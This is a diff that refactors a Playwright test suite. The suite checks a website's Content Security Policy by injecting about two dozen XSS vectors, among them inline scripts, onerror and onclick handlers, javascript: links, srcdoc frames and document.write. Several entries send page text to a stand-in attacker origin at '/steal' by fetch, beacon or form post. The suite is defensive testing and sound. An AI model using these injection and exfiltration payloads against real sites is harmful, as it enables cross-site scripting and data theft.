@@ -5,49 +5,47 @@ import { paths } from "#content/paths.ts";
 import { formPages, sitePages } from "./all-pages.ts";
 import { test } from "./slow-processor.ts";
 
+type Attack = (page: Page, other: string) => Promise<unknown>;
+
+const setMark = "document.documentElement.dataset.hacked = 'yes'";
+const style = "--hacked: yes";
+
+/** An element that found its way into the page, is pressed or sent, and whose styles count. */
+function insert(tag: string, attributes: Readonly<Record<string, string>>, text = ""): Attack {
+  return (page, other) =>
+    page.evaluate(
+      ([name, given, words, origin]) => {
+        const made = document.createElement(name);
+        for (const [key, value] of Object.entries(given))
+          made.setAttribute(key, value.replace("OTHER", origin));
+        made.append(words);
+        document.body.append(made);
+        if (made instanceof HTMLFormElement) made.submit();
+        else made.click();
+        const isStyled = [made, document.body].some((each) =>
+          getComputedStyle(each).getPropertyValue("--hacked"),
+        );
+        if (isStyled) document.documentElement.dataset.hacked = "yes";
+      },
+      [tag, attributes, text, other] as const,
+    );
+}
+
 /**
  * Ways in which markup or code that found its way into a page could run. Each runs as if the page's HTML or one of its
  * scripts had a hole; what it tries is to set the mark, and to reach the other origin.
  */
-const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<unknown>>> = {
-  "an inline script": (page) =>
-    page.evaluate(() => {
-      const script = document.createElement("script");
-      script.append("document.documentElement.dataset.hacked = 'yes'");
-      document.body.append(script);
-    }),
-  "a script of another origin": (page, other) =>
-    page.evaluate((url) => {
-      const script = document.createElement("script");
-      script.setAttribute("src", url);
-      document.body.append(script);
-    }, `${other}/script.js`),
-  "a script in a data: address": (page) =>
-    page.evaluate(() => {
-      const script = document.createElement("script");
-      script.setAttribute("src", "data:text/javascript,document.documentElement.dataset.hacked='yes'");
-      document.body.append(script);
-    }),
-  "an event handler in an attribute": (page) =>
-    page.evaluate(() => {
-      const button = document.createElement("button");
-      button.setAttribute("onclick", "document.documentElement.dataset.hacked = 'yes'");
-      document.body.append(button);
-      button.click();
-    }),
-  "a broken picture with a handler": (page) =>
-    page.evaluate(() => {
-      const image = document.createElement("img");
-      image.setAttribute("onerror", "document.documentElement.dataset.hacked = 'yes'");
-      image.setAttribute("src", "/nowhere.png");
-      document.body.append(image);
-    }),
+const attacks: Readonly<Record<string, Attack>> = {
+  "an inline script": insert("script", {}, setMark),
+  "a script of another origin": insert("script", { src: "OTHER/script.js" }),
+  "a script in a data: address": insert("script", { src: `data:text/javascript,${setMark}` }),
+  "an event handler in an attribute": insert("button", { onclick: setMark }),
+  "a broken picture with a handler": insert("img", { onerror: setMark, src: "/nowhere.png" }),
   innerHTML: (page) =>
-    page.evaluate(() => {
-      document.body.innerHTML = "<img src=x onerror=\"document.documentElement.dataset.hacked='yes'\">";
-    }),
-  "document.write": (page) =>
-    page.evaluate(() => document.write("<script>document.documentElement.dataset.hacked='yes'</script>")),
+    page.evaluate((code) => {
+      document.body.innerHTML = `<img src=x onerror="${code}">`;
+    }, setMark),
+  "document.write": (page) => page.evaluate((code) => document.write(`<script>${code}</script>`), setMark),
   // From a timer, because what the test's own connection runs may always use eval.
   eval: (page) =>
     page.evaluate(() => {
@@ -58,36 +56,12 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
     page.evaluate(() => {
       setTimeout(() => new Function("document.documentElement.dataset.hacked = 'yes'")());
     }),
-  "a timer made of text": (page) =>
-    page.evaluate(() => setTimeout("document.documentElement.dataset.hacked = 'yes'" as never, 0)),
-  "a javascript: address": (page) =>
-    page.evaluate(() => {
-      const link = document.createElement("a");
-      link.setAttribute("href", "javascript:void(document.documentElement.dataset.hacked = 'yes')");
-      document.body.append(link);
-      link.click();
-    }),
-  "a style attribute": (page) =>
-    page.evaluate(() => {
-      document.body.setAttribute("style", "--hacked: yes");
-      if (getComputedStyle(document.body).getPropertyValue("--hacked"))
-        document.documentElement.dataset.hacked = "yes";
-    }),
-  "a style element": (page) =>
-    page.evaluate(() => {
-      const style = document.createElement("style");
-      style.append("body { --hacked: yes }");
-      document.head.append(style);
-      if (getComputedStyle(document.body).getPropertyValue("--hacked"))
-        document.documentElement.dataset.hacked = "yes";
-    }),
-  "a style sheet of another origin": (page, other) => appendLink(page, "stylesheet", `${other}/style.css`),
-  "a picture of another origin": (page, other) =>
-    page.evaluate((url) => {
-      const image = document.createElement("img");
-      image.setAttribute("src", url);
-      document.body.append(image);
-    }, `${other}/pixel.png`),
+  "a timer made of text": (page) => page.evaluate((code) => setTimeout(code as never, 0), setMark),
+  "a javascript: address": insert("a", { href: `javascript:void(${setMark})` }),
+  "a style attribute": insert("p", { style }),
+  "a style element": insert("style", {}, `body { ${style} }`),
+  "a style sheet of another origin": insert("link", { rel: "stylesheet", href: "OTHER/style.css" }),
+  "a picture of another origin": insert("img", { src: "OTHER/pixel.png" }),
   "words fetched to another origin": (page, other) =>
     page.evaluate(
       (url) => fetch(url, { method: "POST", mode: "no-cors", body: document.body.textContent }),
@@ -95,24 +69,9 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
     ),
   "a beacon to another origin": (page, other) =>
     page.evaluate((url) => navigator.sendBeacon(url, document.body.textContent), `${other}/steal`),
-  "a frame of another origin": (page, other) =>
-    page.evaluate((url) => {
-      const frame = document.createElement("iframe");
-      frame.setAttribute("src", url);
-      document.body.append(frame);
-    }, `${other}/frame`),
-  "a frame with markup of its own": (page) =>
-    page.evaluate(() => {
-      const frame = document.createElement("iframe");
-      frame.setAttribute("srcdoc", "<script>parent.document.documentElement.dataset.hacked = 'yes'</script>");
-      document.body.append(frame);
-    }),
-  "an object": (page, other) =>
-    page.evaluate((url) => {
-      const object = document.createElement("object");
-      object.setAttribute("data", url);
-      document.body.append(object);
-    }, `${other}/object`),
+  "a frame of another origin": insert("iframe", { src: "OTHER/frame" }),
+  "a frame with markup of its own": insert("iframe", { srcdoc: `<script>parent.${setMark}</script>` }),
+  "an object": insert("object", { data: "OTHER/object" }),
   "a worker": (page) =>
     page.evaluate(
       () => new Worker(URL.createObjectURL(new Blob(["fetch('/')"], { type: "text/javascript" }))),
@@ -127,14 +86,7 @@ const attacks: Readonly<Record<string, (page: Page, other: string) => Promise<un
       document.body.append(image);
       if (document.baseURI.startsWith(url)) document.documentElement.dataset.hacked = "yes";
     }, `${other}/`),
-  "a form to another origin": (page, other) =>
-    page.evaluate((url) => {
-      const form = document.createElement("form");
-      form.setAttribute("action", url);
-      form.setAttribute("method", "post");
-      document.body.append(form);
-      form.submit();
-    }, `${other}/steal`),
+  "a form to another origin": insert("form", { action: "OTHER/steal", method: "post" }),
 };
 
 for (const path of [paths.home, paths.rfq]) {
@@ -236,18 +188,6 @@ async function watchViolations(page: Page) {
     );
   });
   return violations;
-}
-
-async function appendLink(page: Page, rel: string, href: string) {
-  await page.evaluate(
-    ([relation, url]) => {
-      const link = document.createElement("link");
-      link.setAttribute("rel", String(relation));
-      link.setAttribute("href", String(url));
-      document.head.append(link);
-    },
-    [rel, href],
-  );
 }
 
 /** A site of an attacker, which notes what reaches it. */
